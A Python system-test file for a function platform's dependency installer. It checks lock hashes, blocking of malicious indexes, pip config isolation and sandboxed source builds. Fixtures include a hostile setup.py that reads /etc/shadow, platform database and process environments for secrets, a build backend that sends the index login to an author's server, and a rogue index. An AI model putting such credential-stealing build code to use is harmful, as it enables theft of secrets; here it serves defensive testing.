"""Packages of Python functions: installed from an index that the test serves itself, locked, shared, and isolated."""
import base64
import contextlib
import functools
import hashlib
import http.client
import http.server
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import unittest
import zipfile

from platform_fixture import SystemTest, wait_until
from test_build_log import Events
from test_dependencies_node import own_address

# pip's settings of the machine that runs the tests must not count.
NO_SETTINGS = {name: '' for name in (
    'PIP_INDEX_URL', 'PIP_EXTRA_INDEX_URL', 'PIP_FIND_LINKS', 'PIP_NO_INDEX', 'PIP_CERT', 'PIP_TRUSTED_HOST', 'PIP_PROXY',
    'HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy')}
NO_SETTINGS['PIP_CONFIG_FILE'] = os.devnull


def wheel(name, version, files, requires=(), tag='py3-none-any'):
    """(file name, content) of a wheel."""
    module = name.replace('-', '_')
    info = f'{module}-{version}.dist-info'
    metadata = f'Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n' + ''.join(
        f'Requires-Dist: {line}\n' for line in requires)
    content = {**files, f'{info}/METADATA': metadata,
               f'{info}/WHEEL': f'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: {tag}\n'}
    content[f'{info}/RECORD'] = ''.join(f'{path},,\n' for path in [*content, f'{info}/RECORD'])
    target = io.BytesIO()
    with zipfile.ZipFile(target, 'w') as archive:
        for path, text in content.items():
            archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), text)
    return f'{module}-{version}-{tag}.whl', target.getvalue()


def module(name, version, requires=(), extra=''):
    return wheel(name, version, {name.replace('-', '_') + '/__init__.py': f'version = "{version}"\n{extra}'}, requires)


def sdist(name, version, setup, more=None):
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode='w:gz') as archive:
        for path, text in {'setup.py': setup, 'PKG-INFO': f'Metadata-Version: 1.0\nName: {name}\nVersion: {version}\n',
                           **(more or {})}.items():
            entry = tarfile.TarInfo(f'{name}-{version}/{path}')
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return f'{name}-{version}.tar.gz', target.getvalue()


class Index:
    """A package index (PEP 503) on a port of this machine. Counts what it is asked for."""

    def __init__(self, login=''):
        self.packages = {}
        self.asked = []
        self.login = login
        self.failing = False
        self.open = threading.Event()  # clear it, and answers wait
        self.held = '/'  # those to addresses that begin so
        self.open.set()
        index = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                index.asked.append(self.path)
                if self.path.startswith(index.held):
                    index.open.wait(60)
                with contextlib.suppress(ConnectionError):  # who waited may have gone
                    index.answer(self)

            def log_message(self, *_):
                pass
        self.server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self):
        return f'http://{self.login + "@" if self.login else ""}127.0.0.1:{self.port}/simple'

    def add(self, *files):
        for name, content in files:
            project = re.sub(r'[-_.]+', '-', re.match(r'(.+?)-\d', name).group(1)).lower()
            self.packages.setdefault(project, {})[name] = content

    def answer(self, request):
        def send(status, body=b'', **headers):
            request.send_response(status)
            for name, value in {'Content-Length': len(body), **headers}.items():
                request.send_header(name.replace('_', '-'), str(value))
            request.end_headers()
            request.wfile.write(body)
        if self.failing:
            return send(503)
        if self.login and request.headers.get('Authorization') != 'Basic ' + base64.b64encode(self.login.encode()).decode():
            return send(401, WWW_Authenticate='Basic realm="index"')
        _, kind, project, *rest = (request.path + '/').split('/')
        files = self.packages.get(project)
        if files is None:
            return send(404)
        if kind == 'files':
            return send(200, files[rest[0]], Content_Type='application/octet-stream')
        links = ''.join(f'<a href="/files/{project}/{name}#sha256={hashlib.sha256(data).hexdigest()}">{name}</a><br>\n'
                        for name, data in files.items())
        return send(200, f'<!DOCTYPE html><html><body>{links}</body></html>'.encode(), Content_Type='text/html')

    def close(self):
        self.open.set()
        self.server.shutdown()
        self.server.server_close()


HANDLER = 'import {0}\ndef handler(event):\n    return {0}.version\n'


class IndexTest(SystemTest):
    """A platform that installs from an index of the class."""

    own_platform = True
    login = ''
    settings = {}

    @classmethod
    def setUpClass(cls):
        cls.index = Index(cls.login)
        cls.addClassCleanup(cls.index.close)
        # The platform's own setting has to win over pip's.
        cls.environment = {**NO_SETTINGS, 'PIP_INDEX_URL': cls.index.url(), 'PIP_TIMEOUT': '100', 'PIP_RETRIES': '3'}
        cls.properties = {'build.network': 'host', **cls.settings}
        super().setUpClass()

    def setUp(self):
        self.needs('python')
        self.index.failing = False

    def with_requirements(self, code, requirements, environment=None, **files):
        return self.create('python', handler='handler', files={'main.py': code, 'requirements.txt': requirements, **files},
                           **({'environment': environment} if environment else {}))

    def made(self, answer):
        self.assertEqual(201, answer.status, answer)
        return answer.json['name']

    def refused(self, answer, *words):
        document = self.assertProblem(answer, 422, 'build_failed')
        for word in words:
            self.assertIn(word, answer.text)
        return document

    def document_of(self, name, version=1):
        return self.get(f'/api/v1/functions/{name}/versions/{version}').json


class Installing(IndexTest):
    def test_requirements_with_what_they_need(self):
        self.index.add(module('greeting', '1.0', ['salutation>=1']), module('salutation', '1.4', extra='word = "Hello"\n'))
        name = self.made(self.with_requirements(
            'import greeting, salutation\ndef handler(event):\n    return [greeting.version, salutation.word]\n',
            '# what it needs\ngreeting==1.0\n'))
        self.assertEqual(['1.0', 'Hello'], self.result(name))
        lock = self.document_of(name)['locks']['requirements.lock']
        self.assertRegex(lock, r'(?m)^greeting==1\.0 --hash=sha256:[0-9a-f]{64}$')
        self.assertRegex(lock, r'(?m)^salutation==1\.4 --hash=sha256:[0-9a-f]{64}$')

    def test_dependencies_beside_the_code(self):
        self.index.add(module('sugar', '2.0'), module('sugar', '1.0'))
        name = self.function('python', HANDLER.format('sugar'), dependencies=['sugar<2'])
        self.assertEqual('1.0', self.result(name))

    def test_dependencies_that_make_no_sense(self):
        for wrong, words in (('sugar@1', 'sugar==1'), ('git+https://example.com/x', 'version control'),
                             ('https://example.com/x.whl', 'addresses'), ('../x', 'paths'), ('-r other.txt', 'option'),
                             ('sugar=1', 'sugar==1')):
            with self.subTest(wrong):
                answer = self.create('python', HANDLER.format('sugar'), dependencies=['fine', wrong])
                self.assertEqual(422, answer.status, answer)
                self.assertIn(words, answer.text)

    def test_two_functions_have_each_their_own_version(self):
        self.index.add(module('conflicted', '1.0'), module('conflicted', '2.0'))
        names = [self.made(self.with_requirements(HANDLER.format('conflicted'), f'conflicted=={version}\n'))
                 for version in ('1.0', '2.0')]
        self.assertEqual(['1.0', '2.0'], [self.result(name) for name in names])
        self.assertEqual(['1.0', '2.0'], [self.result(name) for name in names])

    def test_what_is_installed_is_asked_for_once(self):
        self.index.add(module('shared', '1.0'))
        self.made(self.with_requirements(HANDLER.format('shared'), 'shared\n'))
        self.index.asked.clear()
        name = self.made(self.with_requirements('# another\n' + HANDLER.format('shared'), 'shared\n'))
        self.assertEqual('1.0', self.result(name))
        self.assertEqual([], self.index.asked)

    def test_code_alone_changes_and_the_lock_stays(self):
        self.index.add(module('steady', '1.0'))
        code = HANDLER.format('steady')
        name = self.made(self.with_requirements(code, 'steady\n'))
        self.index.add(module('steady', '1.1'))
        self.index.asked.clear()
        answer = self.call('PATCH', f'/api/v1/functions/{name}',
                           {'files': {'main.py': code + '# changed\n', 'requirements.txt': 'steady\n'}})
        self.assertEqual(200, answer.status, answer)
        self.assertEqual('1.0', self.result(name))
        self.assertEqual([], self.index.asked)
        self.assertEqual(self.document_of(name, 1)['locks'], self.document_of(name, 2)['locks'])

    def test_pyproject(self):
        self.index.add(module('projected', '3.1'))
        project = '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\ndependencies = [\n  "projected>=3",  # why\n]\n'
        name = self.made(self.create('python', files={'main.py': HANDLER.format('projected'), 'pyproject.toml': project}))
        self.assertEqual('3.1', self.result(name))

    def test_included_files_and_constraints(self):
        self.index.add(module('included', '1.0'), module('included', '2.0'))
        name = self.made(self.with_requirements(HANDLER.format('included'), '-r parts/base.txt\n-c limits.txt\n', **{
            'parts/base.txt': 'included \\\n  >= 1\n', 'limits.txt': 'included<2\n'}))
        self.assertEqual('1.0', self.result(name))

    def test_lock_of_the_user(self):
        file, data = module('pinned', '1.0')
        self.index.add((file, data), module('pinned', '2.0'))
        lock = f'pinned==1.0 --hash=sha256:{hashlib.sha256(data).hexdigest()}\n'
        name = self.made(self.with_requirements(HANDLER.format('pinned'), 'pinned\n', **{'requirements.lock': lock}))
        self.assertEqual('1.0', self.result(name))
        answer = self.with_requirements(HANDLER.format('pinned'), 'pinned\nmissing\n', **{'requirements.lock': lock})
        self.assertEqual(422, answer.status, answer)
        self.assertIn('missing is not in requirements.lock', answer.text)

    def test_namespace_packages_and_path_files(self):
        self.index.add(wheel('space-one', '1.0', {'space/one.py': 'value = 1\n', 'evil.pth': 'import os; os.environ["PTH"] = "ran"\n'}),
                       wheel('space-two', '1.0', {'space/two.py': 'value = 2\n'}))
        name = self.made(self.with_requirements(
            'import os\nfrom space import one, two\ndef handler(event):\n    return [one.value, two.value, os.environ.get("PTH")]\n',
            'space-one\nspace_two\n'))
        self.assertEqual([1, 2, None], self.result(name))

    def test_own_files_and_the_standard_library_come_first(self):
        self.index.add(wheel('shadow', '1.0', {'helper.py': 'origin = "package"\n', 'statistics.py': 'origin = "package"\n'}))
        name = self.made(self.with_requirements(
            'import helper, statistics\ndef handler(event):\n    return [helper.origin, hasattr(statistics, "mean")]\n',
            'shadow\n', **{'helper.py': 'origin = "own"\n'}))
        self.assertEqual(['own', True], self.result(name))

    def test_packages_are_compiled_and_read_only(self):
        self.index.add(module('compiled', '1.0'))
        name = self.made(self.with_requirements(
            'import compiled, os\ndef handler(event):\n'
            '    try:\n        open(os.path.dirname(compiled.__file__) + "/new", "w")\n        wrote = True\n'
            '    except OSError:\n        wrote = False\n    return [os.path.exists(compiled.__cached__), wrote]\n', 'compiled\n'))
        self.assertEqual([True, False], self.result(name))

    def test_errors_in_packages_have_the_functions_own_frames_only(self):
        self.index.add(wheel('raising', '1.0', {'raising.py': 'def fail():\n    raise ValueError("from inside")\n'}))
        name = self.made(self.with_requirements('import raising\ndef handler(event):\n    raising.fail()\n', 'raising\n'))
        error = self.error(name)
        self.assertEqual(('ValueError', 'main.py', 3), (error['type'], error['file'], error['line']))
        self.assertNotIn('raising.py', str(error['stack']))

    def test_wheels_of_the_function_itself(self):
        files = {'main.py': HANDLER.format('vendored'), 'requirements.txt': 'vendored\n'}
        wheels = dict([module('vendored', '7.0', ['inner']), module('inner', '1.0')])
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, 'w') as target:
            for path, text in files.items():
                target.writestr(path, text)
            for path, data in wheels.items():
                target.writestr('wheels/' + path, data)
        self.index.asked.clear()
        document = {'name': self.unique(), 'runtime': 'python', 'handler': 'handler',
                    'files': {**files, **{'wheels/' + path: {'base64': base64.b64encode(data).decode()}
                                          for path, data in wheels.items()}}}
        self.addCleanup(self.delete, document['name'])
        answer = self.post('/api/v1/functions', document)
        self.assertEqual(201, answer.status, answer)
        self.assertEqual('7.0', self.result(document['name']))
        self.assertEqual([], self.index.asked)

    def test_wheels_of_the_function_itself_lack_one_that_is_asked_for(self):
        name, data = module('brought', '1.0')
        self.index.add(module('forgotten', '1.0'))
        answer = self.create('python', files={'main.py': HANDLER.format('brought'),
                                              'wheels/' + name: {'base64': base64.b64encode(data).decode()}},
                             dependencies=['brought', 'forgotten'])
        self.refused(answer, 'forgotten is not among the wheels in wheels/', 'leave wheels/ out')

    def test_large_wheels_of_the_function_itself(self):
        self.needs('python')
        name, data = wheel('weighty', '1.0', {'weighty/__init__.py': 'version = "1.0"\n', 'weighty/data': 'x' * 70_000_000})
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode='w:gz', compresslevel=1) as archive:
            for path, content in (('main.py', HANDLER.format('weighty').encode()), ('requirements.txt', b'weighty\n'),
                                  (f'wheels/{name}', data)):
                entry = tarfile.TarInfo(path)
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content))
        function = self.unique()
        self.addCleanup(self.delete, function)
        answer = self.call('PUT', f'/api/v1/functions/{function}/archive?runtime=python&handler=main.handler',
                           packed.getvalue(), {'Content-Type': 'application/gzip'})
        self.assertEqual(201, answer.status, answer)
        self.assertEqual('1.0', self.result(function))

    def test_packages_as_plain_folders(self):
        self.index.asked.clear()
        name = self.made(self.create('python', files={
            'main.py': HANDLER.format('plain'), 'plain/__init__.py': 'from .inner import version\n',
            'plain/inner.py': 'version = "0.1"\n'}))
        self.assertEqual('0.1', self.result(name))
        self.assertEqual([], self.index.asked)

    def test_missing_module_says_what_to_add(self):
        error = self.error(self.function('python', 'def handler(event):\n    import yaml\n'))
        self.assertEqual('ModuleNotFoundError', error['type'])
        self.assertIn('"dependencies": ["PyYAML"]', error['hint'])

    def test_index_that_is_gone(self):
        self.index.add(module('lasting', '1.0'))
        self.made(self.with_requirements(HANDLER.format('lasting'), 'lasting\n'))
        self.index.failing = True
        name = self.made(self.with_requirements('# again\n' + HANDLER.format('lasting'), 'lasting\n'))
        self.assertEqual('1.0', self.result(name))
        answer = self.with_requirements(HANDLER.format('lasting'), 'lasting>=1\n')
        self.refused(answer, 'the package index', '127.0.0.1')


class Sharing(IndexTest):
    """Equal locks share a folder of packages: nobody may decide for others what lies in it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.evil = Index()
        cls.addClassCleanup(cls.evil.close)
        cls.index.add(module('wanted', '1.0', extra='origin = "real"\n'))
        cls.evil.add(module('wanted', '1.0', extra='origin = "evil"\n'))

    CODE = 'import wanted\ndef handler(event):\n    return wanted.origin\n'

    def test_an_index_of_ones_own_is_nobody_elses(self):
        attacker = self.made(self.with_requirements(self.CODE, f'--index-url {self.evil.url()}\nwanted==1.0\n'))
        self.assertEqual('evil', self.result(attacker), 'its own choice')
        self.assertEqual('real', self.result(self.made(self.with_requirements(self.CODE, 'wanted==1.0\n'))))

    def test_a_lock_without_hashes_is_refused(self):
        for index in f'--index-url {self.evil.url()}\n', '':
            answer = self.with_requirements(self.CODE, 'wanted\n', **{'requirements.lock': index + 'wanted==1.0\n'})
            self.assertEqual(422, answer.status, answer)
            self.assertIn('--hash=sha256', answer.text)

    def test_other_bytes_for_a_locked_package(self):
        (_, data), = self.index.packages['wanted'].items()
        locked = f'wanted==1.0 --hash=sha256:{hashlib.sha256(data).hexdigest()}\n'
        answer = self.with_requirements(self.CODE, 'wanted\n',
                                        **{'requirements.lock': f'--index-url {self.evil.url()}\n{locked}'})
        self.refused(answer, 'is not the one that was asked for')
        name = self.made(self.with_requirements(self.CODE, 'wanted\n', **{'requirements.lock': locked}))
        self.assertEqual('real', self.result(name))

    def test_settings_of_pip_among_the_files_do_not_count(self):
        self.evil.asked.clear()
        settings = f'[global]\nindex-url = {self.evil.url()}\n'
        name = self.made(self.with_requirements(
            self.CODE, '--pre\nwanted==1.0\n', environment={'PIP_INDEX_URL': self.evil.url()},
            **{path: settings for path in ('pip.conf', '.pip/pip.conf', '.config/pip/pip.conf', 'pip.ini')}))
        self.assertEqual(('real', []), (self.result(name), self.evil.asked))


class Silent(IndexTest):
    """An index that takes connections and says nothing."""

    settings = {'executor.python.registry_timeout': 3}

    def test_it_is_named_and_an_old_lock_helps(self):
        self.index.add(module('quiet', '1.0'))
        name = self.made(self.with_requirements(HANDLER.format('quiet'), 'quiet\n'))
        self.index.open.clear()
        self.addCleanup(self.index.open.set)
        answer = self.call('PATCH', f'/api/v1/functions/{name}', {'locks': None})
        self.assertEqual(200, answer.status, answer)
        self.assertIn('it does not answer', self.get(f'/api/v1/functions/{name}/versions/2/build-log').text)
        answer = self.with_requirements(HANDLER.format('quiet'), 'quiet>=1\n')
        self.refused(answer, f'127.0.0.1:{self.index.port}: it does not answer', 'executor.python.registry_timeout')


class Waiting(IndexTest):
    """First versions whose build takes long, and callers who do not wait for the answer."""

    def begin(self, requirement):
        """A creation that waits for the index: its name and connection."""
        self.index.open.clear()
        self.addCleanup(self.index.open.set)
        name = self.unique()
        self.addCleanup(self.delete, name)
        connection = http.client.HTTPConnection('127.0.0.1', self.platform.port, timeout=60)
        self.addCleanup(connection.close)
        connection.request('POST', '/api/v1/functions', json.dumps(
            {'name': name, 'runtime': 'python', 'code': HANDLER.format('awaited'), 'dependencies': [requirement]}),
            {'Content-Type': 'application/json'})
        wait_until(lambda: self.index.asked, 'the index to be asked')
        return name, connection

    def setUp(self):
        super().setUp()
        self.index.asked.clear()
        self.index.add(module('awaited', '1.0'))

    def state(self, name):
        return self.document_of(name)['state']

    def test_it_can_be_seen_and_followed(self):
        name, connection = self.begin('absent')
        document = self.get(f'/api/v1/functions/{name}').json
        self.assertEqual(('building', ['absent'], []), (document['state'], document['dependencies'], document['live']))
        self.assertEqual(['absent'], self.document_of(name)['dependencies'])
        self.assertIn(name, [each['name'] for each in self.get('/api/v1/functions').json['functions']])
        self.assertEqual(409, self.post(f'/api/v1/functions/{name}/invoke', {}).status)
        follower = http.client.HTTPConnection('127.0.0.1', self.platform.port, timeout=60)
        self.addCleanup(follower.close)
        follower.request('GET', f'/api/v1/functions/{name}/versions/1/build-log?follow=true')
        events = follower.getresponse()
        self.index.open.set()
        answer = connection.getresponse()
        self.assertEqual(422, answer.status)
        answer.read()
        told = events.read().decode()
        self.assertIn('event: end', told)
        self.assertIn('"state":"failed"', told)
        self.assertIn('there is no package \\"absent\\"', told)
        self.assertEqual(404, self.get(f'/api/v1/functions/{name}').status, 'the caller was told, and nothing is left')

    def test_its_log_is_told_while_it_is_made(self):
        """The index holds a file back until the follower has read that it is being fetched."""
        self.index.held = '/files/awaited/'
        self.addCleanup(setattr, self.index, 'held', '/')
        name, connection = self.begin('awaited')
        events = Events(f'http://127.0.0.1:{self.platform.port}', f'/api/v1/functions/{name}/versions/1/build-log?follow=true')
        self.addCleanup(events.close)
        told = iter(events)
        first = next(line for event, _, line in told if event == 'log' and 'awaited' in line)
        self.assertFalse(self.index.open.is_set())
        self.assertEqual('building', self.state(name), first)
        self.index.open.set()
        self.assertEqual(201, connection.getresponse().status)
        rest = list(told)
        self.assertEqual({'state': 'ready', 'version': 1}, json.loads(rest[-1][2]))
        self.assertTrue([line for event, _, line in rest if event == 'log'], 'and there was more to tell')

    def test_a_caller_who_goes_loses_nothing(self):
        name, connection = self.begin('awaited')
        connection.close()
        self.index.open.set()
        wait_until(lambda: self.state(name) == 'ready', 'the version to be ready')
        # The event loops hear of it a moment later.
        wait_until(lambda: self.post(f'/api/v1/functions/{name}/invoke', {}).status == 200, 'the function to be called')
        self.assertEqual('1.0', self.result(name))

    def test_a_caller_who_goes_can_read_what_failed(self):
        name, connection = self.begin('absent')
        connection.close()
        wait_until(lambda: self.get(f'/api/v1/functions/{name}').json['state'] == 'building', 'the function')
        time.sleep(0.2)  # the platform hears of the closed connection
        self.index.open.set()
        wait_until(lambda: self.state(name) == 'failed', 'the version to fail')
        self.assertIn('absent', self.get(f'/api/v1/functions/{name}/versions/1/build-log').text)
        self.assertIn('absent', self.document_of(name)['error']['detail'])
        answer = self.call('PATCH', f'/api/v1/functions/{name}', {'dependencies': ['awaited']})
        self.assertEqual(200, answer.status, answer)
        self.assertEqual('1.0', self.result(name))


class Refusing(IndexTest):
    def line_of(self, answer):
        error = answer.json['errors'][0]
        return error['file'], error['line']

    def test_package_that_does_not_exist(self):
        self.index.add(module('present', '1.0'))
        answer = self.create('python', 'def handler(event): pass\n', dependencies=['present', 'yaml'])
        self.assertIn('the module yaml is installed as PyYAML', answer.json['hint'])
        answer = self.with_requirements('def handler(event): pass\n', 'present\n\nabsent>=1\n')
        self.refused(answer, 'there is no package \\"absent\\"')
        self.assertEqual(('requirements.txt', 3), self.line_of(answer))

    def test_version_that_does_not_exist(self):
        self.index.add(module('versioned', '1.0'), module('versioned', '1.5'))
        answer = self.with_requirements('def handler(event): pass\n', 'versioned>2\n')
        self.refused(answer, 'no version of versioned fits', '1.0, 1.5')
        self.assertEqual(('requirements.txt', 1), self.line_of(answer))

    def test_source_without_wheel(self):
        self.index.add(sdist('sourceonly', '1.0', 'from setuptools import setup\nsetup(name="sourceonly", version="1.0")\n'))
        answer = self.with_requirements('def handler(event): pass\n', 'sourceonly\n')
        self.refused(answer, 'sourceonly has no wheel for Python', 'only its source', 'executor.python.source_builds')
        self.assertEqual(('requirements.txt', 1), self.line_of(answer))

    def test_wheel_for_another_machine(self):
        self.index.add(wheel('elsewhere', '1.0', {'elsewhere.py': ''}, tag='cp36-cp36m-win_amd64'))
        self.refused(self.with_requirements('def handler(event): pass\n', 'elsewhere\n'),
                     'no wheel of elsewhere fits Python', 'win_amd64')

    def test_requirements_that_contradict_each_other(self):
        self.index.add(module('common', '1.0'), module('common', '2.0'), module('old', '1.0', ['common==1.0']),
                       module('new', '1.0', ['common==2.0']))
        self.refused(self.with_requirements('def handler(event): pass\n', 'old\nnew\n'),
                     'contradict each other', 'old 1.0 depends on common==1.0', 'new 1.0 depends on common==2.0')

    def test_hash_that_differs(self):
        self.index.add(module('hashed', '1.0'))
        answer = self.with_requirements('def handler(event): pass\n', 'hashed==1.0 --hash=sha256:' + '0' * 64 + '\n')
        self.refused(answer, 'hashed==1.0 is not the one that was asked for')
        self.assertEqual(('requirements.txt', 1), self.line_of(answer))

    def test_lines_that_are_not_for_here(self):
        for line, words in (('-e .', 'editable'), ('file:///etc', 'addresses'), ('./local', 'paths'),
                            ('--find-links /etc', 'not supported'), ('--trusted-host x', 'not supported'),
                            ('--index-url https://${PIP_INDEX_URL}/', 'variables'), ('x @ git+https://e.org/x', 'version control'),
                            ('-r ../other.txt', 'no file'), ('good==1.0 --install-option=x', 'not supported')):
            with self.subTest(line):
                answer = self.with_requirements('def handler(event): pass\n', '# first\n' + line + '\n')
                self.assertEqual(422, answer.status, answer)
                self.assertIn(words, answer.text)
                self.assertEqual(('requirements.txt', 2), self.line_of(answer))


BACKEND = '''\
import os, urllib.request
urllib.request.urlopen("%s/told?" + os.environ.get("PIP_INDEX_URL", ""))
def get_requires_for_build_wheel(settings=None): return []
def prepare_metadata_for_build_wheel(folder, settings=None):
    os.mkdir(folder + "/inner-1.0.dist-info")
    with open(folder + "/inner-1.0.dist-info/METADATA", "w") as file:
        file.write("Metadata-Version: 2.1\\nName: inner\\nVersion: 1.0\\n")
    return "inner-1.0.dist-info"
'''


class OwnAddress(IndexTest):
    """A wheel whose metadata names an archive of its author's, which pip would build at once to see what it needs."""

    login = 'operator:secret-of-the-operator'

    def test_its_code_does_not_run_beside_the_logins(self):
        author = Index()
        self.addCleanup(author.close)
        url = f'http://127.0.0.1:{author.port}'
        author.add(sdist('inner', '1.0', '', {'backend.py': BACKEND % url, 'pyproject.toml':
                                              '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'}))
        for index, option in ((self.index, ''), (author, f'--extra-index-url {author.url()}\n')):
            name = self.unique()
            index.add(module(name, '1.0', [f'inner @ {url}/files/inner/inner-1.0.tar.gz']))
            answer = self.with_requirements('def handler(event): pass\n', f'{option}{name}\n')
            self.refused(answer, 'inner, for which a package names an address of its own', 'inner-1.0.tar.gz')
            self.assertNotIn('secret-of-the-operator', answer.text)
        self.assertEqual([], [path for path in author.asked if path.startswith('/told')])


class OwnAddressWithSourceBuilds(OwnAddress):
    settings = {'executor.python.source_builds': 'true'}


class WithLogin(IndexTest):
    login = 'operator:secret-of-the-operator'

    def test_login_is_used_and_never_shown(self):
        self.index.add(module('private', '1.0'))
        name = self.made(self.with_requirements(
            'import os, private\ndef handler(event):\n    return [private.version, dict(os.environ)]\n', 'private\n'))
        version, environment = self.result(name)
        self.assertEqual('1.0', version)
        failed = self.with_requirements('def handler(event): pass\n', 'unknown\n')
        self.assertEqual(422, failed.status, failed)
        shown = [str(environment), failed.text, self.platform.log(), str(self.document_of(name))]
        for path in ('/api/v1/runtimes', '/api/health', f'/api/v1/functions/{name}',
                     f'/api/v1/functions/{name}/versions/1/build-log'):
            shown.append(self.get(path).text)
        for text in shown:
            self.assertNotIn('secret-of-the-operator', text)


HOSTILE = '''\
import os, socket
from setuptools import setup
found = {}
for path in %(paths)r:
    try:
        with open(path) as f:
            found[path] = f.read(100)
    except OSError as error:
        pass
for address in %(addresses)r:
    try:
        socket.create_connection(address, 2).close()
        found[str(address)] = "connected"
    except OSError as error:
        pass
for name, value in os.environ.items():
    if "secret" in value or name.startswith("PIP_INDEX"):
        found[name] = value
for pid in os.listdir("/proc"):
    try:
        if b"secret" in open("/proc/%%s/environ" %% pid, "rb").read():
            found[pid] = "environment"
    except OSError:
        pass
os.makedirs("hostile", exist_ok=True)
open("hostile/__init__.py", "w").write("version = '1.0'\\nfound = %%r\\n" %% found)
setup(name="hostile", version="1.0", packages=["hostile"])
'''


class SourceBuilds(IndexTest):
    settings = {'executor.python.source_builds': 'true'}
    login = 'operator:secret-of-the-operator'

    def setUp(self):
        super().setUp()
        self.builders()

    def builders(self):
        """The build tools: those that this machine's interpreter has, as wheels."""
        if 'setuptools' in self.index.packages:
            return
        try:
            import ensurepip
            folder = os.path.join(os.path.dirname(ensurepip.__file__), '_bundled')
            names = [n for n in os.listdir(folder) if n.startswith('setuptools')]
        except (ImportError, OSError):
            names = []
        target = self.platform.home / 'builders'
        if not names:
            done = subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--only-binary', ':all:', '-d', str(target),
                                   'setuptools<70', 'wheel'], timeout=120)
            if done.returncode != 0:
                self.skipTest('no setuptools wheel is at hand')
            folder, names = str(target), os.listdir(target)
        for name in names:
            with open(os.path.join(folder, name), 'rb') as file:
                self.index.add((name, file.read()))
        if 'wheel' not in self.index.packages:
            done = subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--only-binary', ':all:', '-d', str(target),
                                   'wheel'], timeout=120)
            if done.returncode != 0:
                self.skipTest('no wheel of wheel is at hand')
            for name in os.listdir(target):
                self.index.add((name, (target / name).read_bytes()))

    def test_hostile_setup_gets_nothing(self):
        paths = ['/etc/shadow', '/etc/machine-id', str(self.platform.data / 'cloudfunction.db'),
                 str(self.platform.home / 'cloudfunction.properties'), '/proc/1/root/etc/shadow']
        setup = HOSTILE % {'paths': paths, 'addresses': [('127.0.0.1', self.index.port), ('127.0.0.1', self.platform.port),
                                                         ('1.1.1.1', 443)]}
        self.index.add(sdist('hostile', '1.0', setup))
        name = self.made(self.with_requirements('import hostile\ndef handler(event):\n    return hostile.found\n', 'hostile\n'))
        self.assertEqual({}, self.result(name))
        self.assertIn('# source', self.document_of(name)['locks']['requirements.lock'])

    def test_setup_that_fails_is_named(self):
        self.index.add(sdist('failing', '1.0', 'raise RuntimeError("error: this does not build")\n'))
        answer = self.with_requirements('def handler(event): pass\n', 'failing\n')
        self.refused(answer, 'building failing-1.0.tar.gz from its source failed', 'this does not build')


class WithoutNetwork(IndexTest):
    settings = {'build.network': 'none'}

    def test_refusal_names_the_property(self):
        answer = self.with_requirements('def handler(event): pass\n', 'anything\n')
        self.refused(answer, 'cannot be reached', 'build.network')


class Native(IndexTest):
    """Wheels with machine code, compiled here and now for the very interpreter of the platform."""

    MODULE = r'''
        #include <Python.h>
        static PyObject *multiply(PyObject *self, PyObject *args) {
            long a, b;
            return PyArg_ParseTuple(args, "ll", &a, &b) ? PyLong_FromLong(a * b) : NULL;
        }
        static PyMethodDef methods[] = {{"multiply", multiply, METH_VARARGS, ""}, {NULL, NULL, 0, NULL}};
        static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_native", "", -1, methods};
        PyMODINIT_FUNC PyInit__native(void) { return PyModule_Create(&module); }
    '''

    def setUp(self):
        super().setUp()
        if not shutil.which('gcc'):
            self.skipTest('there is no gcc on this machine')
        self.include, self.suffix, self.python, machine = self.result(self.function(
            'python', 'import sys, sysconfig\ndef handler(event):\n'
            '    return [sysconfig.get_paths()["include"], sysconfig.get_config_var("EXT_SUFFIX"), "cp%d%d" % sys.version_info[:2],\n'
            '            sysconfig.get_platform().replace("-", "_").replace(".", "_")]\n'))
        self.tag = f'{self.python}-{self.python}-{machine}'

    def compiled(self, source, *options):
        """A shared library as bytes."""
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, 'library.so')
            done = subprocess.run(['gcc', '-shared', '-fPIC', '-O1', *options, '-x', 'c', '-', '-o', path],
                                  input=source.encode(), stderr=subprocess.PIPE)
            self.assertEqual(0, done.returncode, done.stderr.decode())
            with open(path, 'rb') as file:
                return file.read()

    def test_an_extension_module(self):
        if not os.path.exists(os.path.join(self.include, 'Python.h')):
            self.skipTest(f'there is no Python.h in {self.include}')
        library = self.compiled(self.MODULE, '-I', self.include)
        self.index.add(wheel('native', '1.0', {'native/__init__.py': 'from ._native import multiply\n',
                                               f'native/_native{self.suffix}': library}, tag=self.tag))
        name = self.function('python', 'import native\ndef handler(event):\n    return native.multiply(*event)\n',
                             dependencies=['native'])
        self.assertEqual(42, self.result(name, [6, 7]))

    def test_a_library_beside_a_module(self):
        library = self.compiled('long add(long a, long b) { return a + b; }\n')
        self.index.add(wheel('linked', '1.0', {
            'linked/__init__.py': 'import ctypes, os\nadd = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libadd.so")).add\n',
            'linked/libadd.so': library}, tag=self.tag))
        name = self.function('python', 'import linked\ndef handler(event):\n    return linked.add(*event)\n',
                             dependencies=['linked'])
        self.assertEqual(13, self.result(name, [6, 7]))

    def test_a_wheel_for_another_interpreter(self):
        self.index.add(wheel('foreign', '1.0', {'foreign.py': ''}, tag=self.tag.replace(self.python, 'cp36')))
        self.refused(self.with_requirements('def handler(event): pass\n', 'foreign\n'), 'no wheel of foreign fits Python')


